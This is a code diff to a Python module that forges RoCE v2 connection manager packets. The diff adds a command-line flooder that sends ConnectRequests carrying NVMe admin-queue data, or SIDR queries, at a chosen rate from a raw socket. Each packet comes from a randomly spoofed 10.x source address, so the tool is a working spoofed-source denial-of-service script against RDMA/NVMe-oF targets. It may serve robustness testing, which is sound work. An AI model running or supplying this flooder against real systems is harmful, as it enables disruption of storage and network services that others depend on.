@@ -1,10 +1,16 @@
 # SPDX-License-Identifier: BSD-3-Clause
 """Messages of the connection manager in RoCE v2 packets, made by hand (IBA 12.6, annex A17; IPv4):
-from an ordinary socket, or with any source address from a raw one."""
+from an ordinary socket, or with any source address from a raw one.
 
+forge.py requests|questions ADDRESS PORT RATE: sends so many a second, in many names."""
+
+import itertools
+import os
 import random
 import socket
 import struct
+import sys
+import time
 import zlib
 
 from foreign import PATIENCE
@@ -12,6 +18,7 @@ from foreign import PATIENCE
 PORT = 4791
 ALL = 3  # protocols, and both directions
 TCP, UDP = 0x0106, 0x0111  # port spaces
+NVME = struct.pack("<HHHHH", 0, 0, 32, 31, 0)  # private data for an admin queue
 REQ, REJ, REP, SIDR_REQ, SIDR_REP = 0x10, 0x12, 0x13, 0x17, 0x18
 MAD_AT = 20  # behind BTH and DETH
 UD_SEND_ONLY = 0x64
@@ -49,7 +56,7 @@ def service(space, port):
     return struct.pack("!Q", space << 16 | port)
 
 
-def request(source, destination, port, qpn, guid):
+def request(source, destination, port, qpn, guid, private=b""):
     """A ConnectRequest, of a peer that repeats it for long."""
     data = bytearray(232)
     struct.pack_into("!I", data, 0, random.getrandbits(31) | 1)
@@ -60,7 +67,8 @@ def request(source, destination, port, qpn, guid):
     for at, address in (56, source), (72, destination):
         data[at:at + 16] = b"\0" * 10 + b"\xff\xff" + socket.inet_aton(address)
     data[93], data[95] = 64, 17 << 3
-    data[140:176] = ip_annex(source, destination)
+    private = ip_annex(source, destination) + private
+    data[140:140 + len(private)] = private
     return datagram(mad(REQ, bytes(data)))
 
 
@@ -118,3 +126,21 @@ class RawSocket:
         header = struct.pack("!BBHHHBBH4s4s", 0x45, 2, 20 + n, 5, 0x4000, 64, 17, 0,
                              socket.inet_aton(source), socket.inet_aton(destination))
         self.socket.sendto(header + struct.pack("!HHHH", port, PORT, n, 0) + payload, (destination, 0))
+
+
+def keep_sending(make, destination, port, rate):
+    """Each in the name of another host: 10.100.0.0 and above."""
+    out, begin = RawSocket(), time.monotonic()
+    for i in itertools.count():
+        source = f"10.{random.randrange(100, 250)}.{random.randrange(256)}.{random.randrange(1, 255)}"
+        out.send(source, destination, make(source, destination, port))
+        time.sleep(max(0.0, begin + i / rate - time.monotonic()))
+
+
+def any_request(source, destination, port):
+    return request(source, destination, port, random.randrange(256, 1 << 24), os.urandom(8), NVME)
+
+
+if __name__ == "__main__":
+    keep_sending({"requests": any_request, "questions": question}[sys.argv[1]],
+                 sys.argv[2], int(sys.argv[3]), float(sys.argv[4]))
